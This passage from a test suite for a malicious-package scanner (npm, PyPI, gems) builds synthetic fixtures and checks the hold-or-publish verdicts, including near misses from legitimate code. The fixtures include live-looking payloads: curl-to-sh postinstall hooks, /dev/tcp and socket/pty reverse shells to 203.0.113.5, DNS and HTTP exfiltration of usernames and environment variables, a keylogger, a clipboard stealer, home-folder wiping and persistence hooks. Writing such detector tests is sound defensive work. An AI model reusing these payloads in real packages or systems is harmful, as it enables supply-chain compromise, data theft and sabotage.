    verdict: 'hold',
  },
  {
    rule: 'decodes-and-executes',
    name: 'exec of a substitution cipher decoded by a generator over a long literal',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import string
a_l = string.ascii_letters
r_l = a_l[::-1]
exec("".join(r_l[a_l.index(c)] if c in r_l else c for c in "RNKLIG LH;LH.HBHGVN('RW');KIRMG('WLMV, HLNV GVCG GL KZW')"))
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 4,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'spawns-inline-interpreter',
    name: 'import code starts a detached python -c that imports another module',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import subprocess
p = subprocess.Popen(["python3", "-c", "from cachelib_helper import manager"], close_fds=True)
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 2,
    weight: 50,
    verdict: 'hold',
  },
  {
    rule: 'shell-exfiltration',
    name: 'postinstall runs nslookup $(whoami).probe.example.com',
    scan: () => npm({}, postinstall('nslookup $(whoami).probe.example.com')),
    file: '[postinstall hook]',
    line: 1,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'shell-exfiltration',
    name: 'setup.py runs the same through os.system',
    scan: () => sdist({ 'setup.py': `import os\nfrom setuptools import setup\nos.system("nslookup $(whoami).probe.example.com")\nsetup(name='synthetic-pkg', version='1.0.0')\n` }),
    file: 'setup.py',
    line: 3,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'install-time-network',
    name: 'install script downloads a release archive from an ordinary host',
    scan: () => npm({ 'x.js': `const https = require('https')\nhttps.get('https://downloads.example.com/tool-v1.tar.gz', (res) => res.resume())\n` }, postinstall('node x.js')),
    file: 'x.js',
    line: 2,
    weight: 25,
    verdict: 'publish',
  },
  {
    rule: 'install-time-network',
    name: 'setup.py clones a git repository while installing',
    scan: () =>
      sdist({
        'setup.py': `import git
from setuptools import setup
git.Repo.clone_from('https://git.example.com/tools/updater.git', '/tmp/updater')
setup(name='synthetic_pkg', version='1.0')
`,
      }),
    file: 'setup.py',
    line: 3,
    weight: 25,
    verdict: 'publish',
  },
  {
    rule: 'decodes-and-executes',
    name: 'install script evals Buffer.from(…, "base64")',
    scan: () => npm({ 'x.js': DECODE_EVAL }, postinstall('node x.js')),
    file: 'x.js',
    line: 1,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'decodes-and-executes',
    name: 'setup.py execs base64.b64decode(…)',
    scan: () => sdist({ 'setup.py': `import base64\nfrom setuptools import setup\nexec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))\nsetup(name='synthetic-pkg', version='1.0.0')\n` }),
    file: 'setup.py',
    line: 3,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'postinstall pipes curl into sh',
    scan: () => npm({}, postinstall('curl -s http://get.example.com/a.sh | sh')),
    file: '[postinstall hook]',
    line: 1,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'a wheel .pth file (run at every interpreter start) pipes curl into sh',
    scan: () => wheel({ 'synthetic_pkg/__init__.py': '', 'synthetic_pkg-init.pth': `import os; os.system('curl -s http://get.example.com/a.sh | sh')\n` }),
    file: 'synthetic_pkg-init.pth',
    line: 1,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'remote-shell',
    name: 'postinstall opens bash -i >& /dev/tcp/…',
    scan: () => npm({}, postinstall('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')),
    file: '[postinstall hook]',
    line: 1,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'remote-shell',
    name: 'setup.py dup2s a socket onto stdin and spawns a pty',
    scan: () =>
      sdist({
        'setup.py': `import socket, os, pty
from setuptools import setup
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.5", 4444))
os.dup2(s.fileno(), 0)
pty.spawn("/bin/sh")
setup(name='synthetic-pkg', version='1.0.0')
`,
      }),
    file: 'setup.py',
    line: 6,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'hidden-powershell',
    name: 'setup.py runs powershell -w hidden -enc through os.system',
    scan: () => sdist({ 'setup.py': `import os\nfrom setuptools import setup\nos.system("${HIDDEN_PS}")\nsetup(name='synthetic-pkg', version='1.0.0')\n` }),
    file: 'setup.py',
    line: 3,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'establishes-persistence',
    name: 'install script appends a launcher to ~/.bashrc',
    scan: () =>
      npm(
        {
          'x.js': `const fs = require('fs')
const os = require('os')
fs.appendFileSync(os.homedir() + '/.bashrc', '\\nnode ~/.cache/agent.js &\\n')
`,
        },
        postinstall('node x.js'),
      ),
    file: 'x.js',
    line: 3,
    weight: 70,
    verdict: 'hold',
  },
  {
    rule: 'establishes-persistence',
    name: 'setup.py makes a folder in the Windows Startup folder and moves its launcher there (no open() for writing)',
    scan: () =>
      sdist({
        'setup.py': `import os, shutil
from setuptools import setup
startup = rf'C:\\Users\\{os.getlogin()}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\boot'
os.makedirs(startup, exist_ok=True)
shutil.move('launcher.pyw', startup)
setup(name='synthetic-pkg', version='1.0.0')
`,
      }),
    file: 'setup.py',
    line: 3,
    weight: 70,
    verdict: 'hold',
  },
  {
    rule: 'captures-input',
    name: 'the main module ships the clipboard to a server every few seconds',
    scan: () =>
      npm({
        'index.js': `const clipboardy = require('clipboardy')
const https = require('https')
setInterval(() => { https.request('https://collect.example.com/c').end(clipboardy.readSync()) }, 5000)
`,
      }),
    file: 'index.js',
    line: 3,
    weight: 80,
    verdict: 'hold',
  },
  {
    rule: 'captures-input',
    name: 'a Python package logs keys and posts them',
    scan: () =>
      sdist({
        'setup.py': setupPy(),
        'synthetic_pkg/__init__.py': `from pynput import keyboard
import requests
def on_press(key):
    requests.post('https://collect.example.com/k', data=str(key))
keyboard.Listener(on_press=on_press).start()
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 5,
    weight: 80,
    verdict: 'hold',
  },
  {
    rule: 'obfuscated-code',
    name: 'install script full of obfuscator.io _0x identifiers',
    scan: () => npm({ 'x.js': Array.from({ length: 20 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`).join('\n') }, postinstall('node x.js')),
    file: 'x.js',
    line: 1,
    weight: 70,
    verdict: 'hold',
  },
  {
    rule: 'obfuscated-code',
    name: 'a setup.py whose names are spelt in O and 0, as the Oxyry obfuscator spells them',
    scan: () => sdist({ 'setup.py': `from setuptools import setup\n${Array.from({ length: 12 }, (_, i) => `O${i.toString(2).padStart(4, '0').replace(/1/g, 'O')}O0O0 = ${i}`).join('\n')}\nsetup(name='synthetic-pkg')\n` }),
    file: 'setup.py',
    weight: 70,
    verdict: 'hold',
  },
  {
    rule: 'encoded-payload',
    name: 'a 400-character base64 literal next to child_process in an install script',
    scan: () => npm({ 'x.js': `const cp = require('child_process')\nconst data = '${denseBase64(400)}'\ncp.execSync('node --version')\nmodule.exports = data\n` }, postinstall('node x.js')),
    file: 'x.js',
    line: 2,
    weight: 60,
    verdict: 'hold',
  },
  {
    rule: 'bundled-executable',
    name: 'postinstall runs a bundled ELF binary',
    scan: () => npm({ 'bin/helper': `\x7fELF\x02\x01\x01\x00${'x'.repeat(60)}` }, postinstall('./bin/helper')),
    file: 'bin/helper',
    weight: 40,
    verdict: 'publish',
  },
  {
    rule: 'dependency-confusion-version',
    name: 'version 99.0.0 with an install hook',
    scan: () => npm({}, postinstall('node index.js'), '99.0.0'),
    weight: 40,
    verdict: 'publish',
  },
  {
    rule: 'shadows-system-command',
    name: 'a bin entry named git',
    scan: () => npm({ 'cli.js': '#!/usr/bin/env node\nconsole.log(1)\n' }, { bin: { git: 'cli.js' } }),
    weight: 40,
    verdict: 'publish',
  },
  {
    rule: 'install-message',
    name: 'a post_install_message that pipes a download into sh',
    scan: () => gem({ 'lib/synthetic-gem.rb': 'module Synthetic; end\n' }, { postInstallMessage: 'Run: curl -s https://get.example.net/setup.sh | sh' }),
    weight: 40,
    verdict: 'publish',
  },
  {
    rule: 'undeclared-files',
    name: 'a lib file the gemspec does not list, loaded by the entry',
    scan: () => gem({ 'lib/synthetic-gem.rb': "require_relative 'boot'\n", 'lib/boot.rb': 'puts 1\n' }, {}),
    file: 'lib/boot.rb',
    weight: 45,
    verdict: 'publish',
  },
  {
    rule: 'sabotages-machine',
    name: 'install code powers the machine off',
    scan: () =>
      sdist({
        'setup.py': `import os, platform
from setuptools import setup
if platform.system() in ('Linux', 'Darwin'):
    os.system('poweroff')
else:
    os.system('shutdown /s -f -t 0')
setup(name='synthetic-pkg', version='1.0.0')
`,
      }),
    file: 'setup.py',
    line: 4,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'sabotages-machine',
    name: 'a postinstall script wipes the home folder',
    scan: () => npm({ 'x.js': "require('child_process').execSync('rm -rf ~/*')\n" }, postinstall('node x.js')),
    file: 'x.js',
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'drill-canary',
    name: 'the drill canary file',
    scan: () => npm({ 'gatehouse-drill-canary.js': 'module.exports = "drill"\n' }),
    weight: 60,
    verdict: 'hold',
  },
]

describe('each rule fires on a synthetic payload', () => {
  it.each(POSITIVE.map((c) => [`${c.rule}: ${c.name}`, c] as const))('%s', async (_, c) => {
    const r = await c.scan()
    const signal = scoring(r, c.rule)
    expect(signal, `signals: ${JSON.stringify(r.signals.map((s) => [s.rule, s.weight, s.message]))}`).toBeDefined()
    expect(signal).toMatchObject({ weight: c.weight, severity: severityOf(c.weight) })
    if (c.file !== undefined) expect(signal!.file).toBe(c.file)
    if (c.line !== undefined) expect(signal!.line).toBe(c.line)
    expect(r.verdict).toBe(c.verdict)
  })

  it('reports install hooks as information that does not count', async () => {
    const r = await npm({ 'x.js': 'console.log("built")\n' }, { scripts: { preinstall: 'node x.js', postinstall: 'node x.js' } })
    const hooks = r.signals.filter((s) => s.rule === 'install-hook')
    expect(hooks.map((s) => s.message)).toEqual(['preinstall: node x.js', 'postinstall: node x.js'])
    expect(hooks.every((s) => s.weight === 0 && s.severity === 'info')).toBe(true)
    expect(r).toMatchObject({ verdict: 'publish', score: 0 })
    const py = await sdist({ 'setup.py': setupPy() })
    expect(py.signals).toEqual([expect.objectContaining({ rule: 'install-hook', weight: 0, message: 'setup.py: python setup.py install' })])
  })

  it('has a positive case for every rule of the ruleset', () => {
    const covered = new Set([...POSITIVE.map((c) => c.rule), 'install-hook'])
    expect(RULES.map((r) => r.id).filter((id) => !covered.has(id))).toEqual([])
  })
})

// ---------------------------------------------------------------------------------------------
// Near misses: what legitimate packages write with the same capabilities

describe('near misses legitimate code writes', () => {
  it('lets a system tool offer a reboot at run time, and prints advice to reboot without running it', async () => {
    const r = await sdist({
      'synthetic_pkg/__init__.py': `import subprocess
print('Drivers updated: run "sudo reboot" to load them; clean up with rm -rf ~/.cache/synthetic')
def reboot_host(delay=0):
    subprocess.run(['sudo', 'shutdown', '-r', f'+{delay}'])
def clean_build():
    subprocess.run('rm -rf build/ dist/', shell=True)
`,
    })
    expect(r.signals.filter((s) => s.rule === 'sabotages-machine').every((s) => s.weight <= 10)).toBe(true)
    expect(r.verdict).toBe('publish')
  })

  it('does not count a download saved as data in a file that runs an unrelated command', async () => {
    const r = await sdist({
      'synthetic_pkg/__init__.py': '',
      'synthetic_pkg/data.py': `import os, subprocess, urllib.request, wget
def fetch_corpus(target):
    path = os.path.join(target, 'corpus.zip')
    urllib.request.urlretrieve('https://files.example.com/corpus.zip', path)
    wget.download('https://files.example.com/vocab.txt', out=os.path.join(target, 'vocab.txt'))
    return path
def version():
    return subprocess.run(['git', 'describe', '--tags'], capture_output=True).stdout
`,
    })
    expect(r.signals.filter((s) => s.rule === 'downloads-and-executes')).toEqual([])
    expect(r.verdict).toBe('publish')
  })

  it('does not count a child process inheriting the environment', async () => {
    const r = await npm(
      {
        'x.js': `const { spawn } = require('child_process')
const child = spawn(process.execPath, ['build.js'], { env: process.env, stdio: 'inherit' })
child.on('exit', (code) => process.exit(code))
`,
      },
      postinstall('node x.js'),
    )
    expect(r.signals.filter((s) => s.rule === 'exfiltrates-environment')).toEqual([])
    expect(r).toMatchObject({ verdict: 'publish', score: 0 })
  })

  it('keeps the run-time weight for an endpoint sent anything but a wallet secret, and for a key sent to an ordinary host', async () => {
    const sender = (param: string, url: string) => `import requests\n\ndef send(${param}, amount=0):\n    requests.post('${url}', {'v': ${param}, 'amount': amount})\n`
    for (const [param, url] of [
      ['api_key', 'https://0a1b2c3d4e5f.mockapi.io/keys'],
      ['message', 'https://0a1b2c3d4e5f.mockapi.io/keys'],
      ['private_key', 'https://api.example-chain.org/keys'],
    ] as const) {
      const r = await sdist({ 'synthetic_wallet/__init__.py': 'from .send import send\n', 'synthetic_wallet/send.py': sender(param, url) })
      expect(r.verdict, `${param} → ${url}: ${JSON.stringify(r.signals.map((s) => [s.rule, s.weight]))}`).toBe('publish')
    }
  })

  it('publishes a GitHub client that sends GITHUB_TOKEN to its API at run time', async () => {
    const r = await npm({
      'index.js': `const https = require('https')

function listRepos(user) {
  const req = https.request({ hostname: 'api.github.com', path: '/users/' + user + '/repos', headers: { authorization: 'Bearer ' + process.env.GITHUB_TOKEN } })
  req.end()
  return req
}

module.exports = { listRepos }
`,
    })
    expect(r.verdict).toBe('publish')
    // at most the weak "one secret-looking variable" form, never the environment itself
    for (const s of r.signals.filter((s) => s.rule === 'exfiltrates-environment')) {
      expect(s.message).toMatch(/secret-looking environment variable/)
      expect(s.weight).toBeLessThanOrEqual(20)
    }
  })

  it('publishes a Python package that runs builds with os.environ and calls GitHub with its token', async () => {
    const r = await sdist({
      'setup.py': setupPy(),
      'synthetic_pkg/__init__.py': `import os, subprocess
import requests

def build(cmd):
    return subprocess.run(cmd, env=os.environ.copy(), check=True)

def repos(user):
    token = os.environ.get("GITHUB_TOKEN")
    return requests.get("https://api.github.com/users/%s/repos" % user, headers={"Authorization": "token %s" % token}).json()
`,
    })
    expect(weighted(r)).toEqual([])
    expect(r.verdict).toBe('publish')
  })

  it('does not treat a UTF-8 decoder built on String.fromCharCode as decoding a payload', async () => {
    const decoder = `function decodeUtf8(bytes) {
  let out = ''
  for (let i = 0; i < bytes.length; i++) {
    const code = bytes[i] < 0x80 ? bytes[i] : ((bytes[i] & 0x1f) << 6) | (bytes[++i] & 0x3f)
    out += String.fromCharCode(code)
  }
  return out
}
module.exports = { decodeUtf8 }
console.log(decodeUtf8([104, 105]))
`
    expect((await npm({ 'index.js': decoder })).signals).toEqual([])
    const atInstall = await npm({ 'x.js': decoder }, postinstall('node x.js'))
    expect(weighted(atInstall)).toEqual([])
    expect(atInstall.verdict).toBe('publish')
  })

  it('publishes a client library whose error message says "login data", and holds a reader of Chrome\'s Login Data', async () => {
    const client = (message: string) =>
      sdist({
        'synthetic_pkg/__init__.py': `from .connection import Connection\nDEFAULT = Connection('https://pod.example.org')\n`,
        'synthetic_pkg/connection.py': `import requests
class Connection:
    def __init__(self, pod):
        self.session = requests.Session()
        try:
            self.session.get(pod)
        except Exception as e:
            raise ValueError('${message} (caused by: {0})'.format(e))
`,
      })
    expect(weighted(await client('cannot create login data'))).toEqual([])
    expect(weighted(await client('Google/Chrome/User Data/Default/Login Data'))).toEqual(['steals-browser-or-wallet-data'])
  })

  it('does not link a clone to a script run from another folder', async () => {
    const r = await sdist({
      'setup.py': setupPy(`import os, subprocess, git
git.Repo.clone_from('https://git.example.org/tools/helper.git', 'vendor/helper')
os.chdir(os.path.dirname(os.path.abspath(__file__)))
subprocess.run(['python', 'generate.py'])
`),
    })
    expect(scoring(r, 'downloads-and-executes')).toBeUndefined()
  })

  it('publishes a setup.py that reads its version with exec(open(…).read())', async () => {
    const r = await sdist({
      'setup.py': `from setuptools import setup
about = {}
exec(open('synthetic_pkg/version.py').read(), about)
setup(name='synthetic-pkg', version=about['__version__'])
`,
      'synthetic_pkg/__init__.py': 'from .version import __version__\n',
      'synthetic_pkg/version.py': "__version__ = '1.0.0'\n",
    })
    expect(weighted(r)).toEqual([])
    expect(r.verdict).toBe('publish')
  })

  it('publishes a setup.py that calls PowerShell openly for a Windows build step', async () => {
    const r = await sdist({
      'setup.py': `import subprocess, sys
from setuptools import setup
if sys.platform == 'win32':
    subprocess.check_call(['powershell', '-NoProfile', '-Command', 'Get-ChildItem'])
setup(name='synthetic-pkg', version='1.0.0')
`,
    })
    expect(weighted(r)).toEqual([])
  })

  it("publishes a module that runs the package's own .ps1 script with -ExecutionPolicy Bypass -File", async () => {
    const r = await sdist({
      'synthetic_pkg/__init__.py': `import os, subprocess
def validate(base):
    script = os.path.join(base, 'scripts', 'validate.ps1')
    return subprocess.call(['powershell', '-ExecutionPolicy', 'ByPass', '-File', script])
`,
    })
    expect(weighted(r)).toEqual([])
  })

  it('does not run README text: a curl | sh line in documentation is not code', async () => {
    const r = await npm({ 'README.md': '# synthetic\n\nInstall the CLI:\n\n    curl -s http://get.example.com/a.sh | sh\n\nOr with PowerShell:\n\n    powershell -w hidden -enc AAAAAAAAAAAAAAAAAAAAAAAA\n' })
    expect(r.signals).toEqual([])
    expect(r.verdict).toBe('publish')
  })

  it('does not run install advice: a `pip install git+…` message is text, and pip installing an index package is not a remote install', async () => {
    const r = await sdist({
      'synthetic_pkg/__init__.py': `import subprocess, sys
try:
    import extra
except ImportError:
    print('extra is missing: pip install git+https://git.example.com/u/extra.git')
    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'extra'])
`,
    })
    expect(r.signals.filter((s) => s.rule === 'downloads-and-executes')).toEqual([])
  })

  it('publishes a converter that writes decoded data where its caller asks, and holds a file that drops it in a place of its own choosing', async () => {
    const tool = (target: string) => `import binascii, subprocess, sys

def extract(path_to_hex, output_path):
    with open(path_to_hex) as f:
        script = binascii.unhexlify(f.read().strip())
    with open(${target}, 'wb') as out:
        out.write(script)

def find_device():
    return subprocess.check_output(['mount']).decode()

def main():
    extract(sys.argv[1], sys.argv[2])
`
    const converter = await sdist({ 'synthetic_pkg/__init__.py': tool('output_path') })
    expect(converter.signals.filter((s) => s.rule === 'decodes-and-executes')).toEqual([])
    const dropper = await sdist({ 'synthetic_pkg/__init__.py': tool("'/tmp/.cache.py'") })
    expect(dropper.signals.map((s) => s.rule)).toContain('decodes-and-executes')
  })

  it('does not link a downloaded archive to a command that names another folder', async () => {
    const r = await sdist({
      'synthetic_pkg/__init__.py': `import os, shutil, requests

def fetch_data(dest):
    r = requests.get('https://data.example.com/tables.tar.gz')
    with open('tables.tar.gz', 'wb') as f:
        f.write(r.content)
    shutil.unpack_archive('tables.tar.gz', 'tables')

def build():
    os.system('python tools/tables_index.py')
`,
    })
    expect(r.signals.filter((s) => s.rule === 'downloads-and-executes')).toEqual([])
  })

  it('publishes a cloud client that reads its own credentials file and signs requests with them', async () => {
    const r = await sdist({
      'synthetic_pkg/__init__.py': '',
      'synthetic_pkg/client.py': `import configparser, hashlib, hmac, os, requests

def profile(name='default'):
    config = configparser.ConfigParser()
    config.read(os.path.expanduser('~/.aws/credentials'))
    return config.get(name, 'aws_secret_access_key')

def get(url):
    signature = hmac.new(profile().encode(), url.encode(), hashlib.sha256).hexdigest()
    return requests.get(url, headers={'X-Signature': signature})
`,
    })
    expect(r.verdict).toBe('publish')
  })

  /** A sync tool's upload of every file it finds under a folder its user names. */
  const SYNC_TOOL = `import os, requests

def push(folder, url):
    for root, _, names in os.walk(folder):
        for name in names:
            with open(os.path.join(root, name), 'rb') as f:
                requests.put(url + '/' + name, data=f)
`

  it('publishes a sync tool that uploads the files it finds when its user runs it, and a setup.py that lists its sources and downloads', async () => {
    const sync = await sdist({
      'synthetic_pkg/__init__.py': '',
      'synthetic_pkg/sync.py': SYNC_TOOL,
    })
    expect(sync.verdict).toBe('publish')
    const build = await sdist({
      'setup.py': `import glob, os, urllib.request
from setuptools import setup
sources = glob.glob('src/*.c')
for source in sources:
    urllib.request.urlretrieve('https://example.org/headers/' + os.path.basename(source) + '.h', source + '.h')
setup(name='synthetic-pkg', version='1.0.0')
`,
    })
    expect(scoring(build, 'exfiltrates-credentials')).toBeUndefined()
  })

  it('holds a package that starts a web server at import whose endpoint runs the command a request carries', async () => {
    const r = await sdist({
      'synthetic_pkg/__init__.py': `import subprocess, threading
from flask import Flask, request

app = Flask(__name__)

@app.route('/status')
def status():
    cmd = request.args.get('q')
    return subprocess.check_output(cmd, shell=True)

threading.Thread(target=app.run, kwargs={'host': '0.0.0.0', 'port': 8765}, daemon=True).start()
`,
    })
    expect(scoring(r, 'downloads-and-executes')?.message).toMatch(/subprocess\.check_output/)
    expect(r.verdict).not.toBe('publish')
  })

  it('publishes a web app whose endpoints read request data and run a fixed command', async () => {
    const r = await sdist({
      'synthetic_pkg/__init__.py': `import subprocess
from flask import Flask, request, jsonify

app = Flask(__name__)

@app.route('/search')
def search():
    term = request.args.get('q', '')
    version = subprocess.check_output(['git', 'describe', '--tags'])
    return jsonify({'term': term.lower(), 'version': version.decode()})
`,
    })
    expect(scoring(r, 'downloads-and-executes')).toBeUndefined()
  })

  it('still weighs a credential path read beside network calls in run-time code that also uploads the files it finds', async () => {
    const r = await sdist({
      'synthetic_pkg/__init__.py': '',
      'synthetic_pkg/sync.py': `${SYNC_TOOL}
def key():
    return open(os.path.expanduser('~/.ssh/id_rsa')).read()
`,
    })
    expect(scoring(r, 'exfiltrates-credentials')?.message).toMatch(/reads .*\.ssh/)
  })

  it('does not run a file a download is saved to when the next command only unpacks it', async () => {
    const r = await sdist({
      'setup.py': `import os
from setuptools import setup
os.system('curl -fsSL -o /tmp/headers.tar.gz https://example.org/headers.tar.gz && tar xzf /tmp/headers.tar.gz')
setup(name='synthetic-pkg', version='1.0.0')
`,
    })
    expect(scoring(r, 'downloads-and-executes')).toBeUndefined()
  })

  it('ignores a webhook URL in a file that cannot send anything', async () => {
    const r = await npm({ 'config.js': `module.exports = { exampleWebhook: 'https://discord.com/api/webhooks/123456/abcdef' }\n` }, postinstall('node config.js'))
    expect(weighted(r)).toEqual([])
  })

  it('does not follow ordinary data through a local send() helper', async () => {
    const r = await npm(
      {
        'x.js': `const https = require('https')
function send(d) {
  const req = https.request({ hostname: 'telemetry.example.com', method: 'POST' })
  req.write(d)
  req.end()
}
send(JSON.stringify({ event: 'installed', node: process.version }))
`,
      },
      postinstall('node x.js'),
    )
    expect(weighted(r)).toEqual(['install-time-network'])
    expect(r.verdict).toBe('publish')
  })

  it('does not call minified code or a few _0x names obfuscated', async () => {
    const few = Array.from({ length: 5 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`).join('\n')
    const minified = 'var a=function(b,c){return b+c},d=a(1,2),e=[d,a(d,3)].map(function(f){return f*2});module.exports={a:a,d:d,e:e};'
    const r = await npm({ 'x.js': few, 'y.js': minified }, { scripts: { preinstall: 'node x.js', postinstall: 'node y.js' } })
    expect(weighted(r)).toEqual([])
  })

  it('does not call a long base64 literal a payload when nothing executes it', async () => {
    const r = await npm({ 'font.js': `module.exports = '${denseBase64(400)}'\n` }, postinstall('node font.js'))
    expect(weighted(r)).toEqual([])
  })

  it('weighs a native addon no hook runs as a mere note', async () => {
    const r = await npm({ 'build/Release/addon.node': `\x7fELF\x02\x01\x01\x00${'x'.repeat(60)}` })
    expect(scoring(r, 'bundled-executable')).toMatchObject({ weight: 5, file: 'build/Release/addon.node' })
    expect(r.verdict).toBe('publish')
  })

  it('accepts calendar versions', async () => {
    const r = await npm({}, postinstall('node index.js'), '2024.1.0')
    expect(r.signals.filter((s) => s.rule === 'dependency-confusion-version')).toEqual([])
  })

  it('publishes a wheel whose .pth files only add paths or run a well-known shim', async () => {
    const r = await wheel({
      'synthetic_pkg/__init__.py': '',
      'synthetic_pkg.pth': 'src\n../vendor\n',
      'distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
    })
    expect(weighted(r)).toEqual([])
    expect(r.signals.filter((s) => s.rule === 'install-hook')).toHaveLength(2)
  })

  it('does not call a launcher that re-runs its own source under another interpreter an inline interpreter', async () => {
    const r = await sdist({
      'synthetic_pkg/__init__.py': `import inspect, os, subprocess, sys
def rerun(args):
    python = os.path.abspath(args.python)
    with open(inspect.getsourcefile(sys.modules[__name__])) as f:
        content = f.read()
    cmd = [python, "-c", content]
    return subprocess.call(cmd)

def main():
    return rerun(parse_args())

if __name__ == '__main__':
    sys.exit(main())
`,
    })
    expect(r.signals.filter((s) => s.rule === 'spawns-inline-interpreter')).toEqual([])
    expect(r.verdict).toBe('publish')
  })
})

// ---------------------------------------------------------------------------------------------
// Roles: when a file runs decides how much its evidence weighs

describe('Python identifiers in look-alike letters', () => {
  it('reads mathematical alphanumerics in code as Python does, and ignores them in strings and comments', async () => {
    const hidden = await sdist({ 'setup.py': setupPy("import base64\n\u{1D68E}\u{1D6A1}\u{1D68E}\u{1D68C}(base64.b64decode('aW1wb3J0IG9z'))\n") })
    expect(hidden.signals.some((s) => /mathematical alphanumerics/.test(s.message))).toBe(true)
    expect(hidden.verdict).not.toBe('publish')
    const docs = await sdist({ 'setup.py': setupPy(), 'pkg/__init__.py': '"""Bold digit \u{1D7CF} in a docstring"""\n# \u{1D401}old in a comment\nVALUE = "\u{1D7CF}"\n' })
    expect(docs.signals.some((s) => /mathematical alphanumerics/.test(s.message))).toBe(false)
  })
})

describe('roles', () => {
  it('follows data into a local function: send(JSON.stringify(process.env))', async () => {
    const r = await npm(
      {
        'x.js': `const https = require('https')
function send(d) {
  const req = https.request({ hostname: 'collect.example.com', method: 'POST' })
  req.write(d)
  req.end()
}
send(JSON.stringify(process.env))
`,
      },
      postinstall('node x.js'),
    )
    expect(scoring(r, 'exfiltrates-environment')).toMatchObject({ file: 'x.js', line: 7, weight: 100, message: expect.stringContaining('send()') })
    expect(r.verdict).toBe('hold')
  })

  it('follows a Python helper that sends its argument', async () => {
    const r = await sdist({
      'setup.py': `import os, json, urllib.request
from setuptools import setup
def send(payload):
    urllib.request.urlopen("https://collect.example.com/", data=payload.encode())
send(json.dumps(dict(os.environ)))
setup(name='synthetic-pkg', version='1.0.0')
`,
    })
    expect(scoring(r, 'exfiltrates-environment')).toMatchObject({ file: 'setup.py', line: 5, weight: 100 })
  })

  it('sees exec and compile reached through builtins, and code hidden far to the right of a statement', async () => {
    const r = await sdist({
      'setup.py': `from setuptools import setup
from setuptools.command.install import install
class Install(install):
    def run(self):
        print("installing")${' '.repeat(300)},__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("${Buffer.from('print(1)').toString('base64')}"), '<s>', 'exec'))
        install.run(self)
setup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Install})
`,
    })
    expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'setup.py', line: 5 })
    expect(scoring(r, 'obfuscated-code')?.message).toMatch(/code hidden 3\d\d columns to the right/)
  })

  it('does not call aligned spaces inside a string literal hidden code', async () => {
    const r = await npm({ 'index.js': `module.exports = { pad: "x${' '.repeat(200)}y", table: '${' '.repeat(180)}' }\n` })
    expect(r.signals.filter((s) => s.rule === 'obfuscated-code')).toEqual([])
  })

  it('follows commands read from a raw socket into a shell', async () => {
    const r = await sdist({
      'synthetic_pkg/__init__.py': `import socket, subprocess
def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.5", 4444))
    while True:
        command = s.recv(1024).decode()
        out = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)
        s.send(out.stdout.read())
connect()
`,
    })
    expect(scoring(r, 'downloads-and-executes')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 7 })
  })

  it('reads bytearray.fromhex as decoding: a hex blob XOR-ed with a key and executed', async () => {
    const program = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n".repeat(4)
    const key = [0xc5, 0xab, 0x41]
    const blob = Buffer.from([...Buffer.from(program)].map((b, i) => b ^ key[i % 3]!)).toString('hex')
    const r = await sdist({
      'synthetic_pkg/__init__.py': `blob = '${blob}'

def unpack(key):
    data = bytearray.fromhex(blob)
    k = bytearray.fromhex(key)
    out = bytearray([data[i] ^ k[i % 3] for i in range(len(data))])
    exec(out.decode('ascii'))
`,
    })
    expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 7, weight: 80 })
  })

  it('counts a function another module calls at import as import-time code, and one nobody calls as run time', async () => {
    const helper = `import base64, subprocess
def start():
    subprocess.run(base64.b64decode('${Buffer.from('id; uname -a').toString('base64')}'), shell=True)
def unused():
    subprocess.run(base64.b64decode('${Buffer.from('id; uname -a').toString('base64')}'), shell=True)
`
    const weight = async (init: string) => scoring(await sdist({ 'synthetic_pkg/__init__.py': init, 'synthetic_pkg/helper.py': helper }), 'decodes-and-executes')?.weight
    // through every import spelling: from-import, module import, package-absolute, aliased
    expect(await weight('from .helper import start\nstart()\n')).toBe(90)
    expect(await weight('from . import helper\nhelper.start()\n')).toBe(90)
    expect(await weight('import synthetic_pkg.helper\nsynthetic_pkg.helper.start()\n')).toBe(90)
    expect(await weight('from synthetic_pkg.helper import start as go\ngo()\n')).toBe(90)
    // imported but only called from a function nothing calls: still run time
    expect(await weight('from .helper import start\ndef main():\n    start()\n')).toBe(40)
    expect(await weight('from .helper import unused\n')).toBe(40)
  })

  it('follows data between modules: a function that collects in one module, a call that sends in another', async () => {
    const collect = `import os\ndef grab():\n    return dict(os.environ)\ndef version():\n    return '1.0'\n`
    const net = `import requests\ndef send(data):\n    requests.post('https://collector.example/c', data=data)\n`
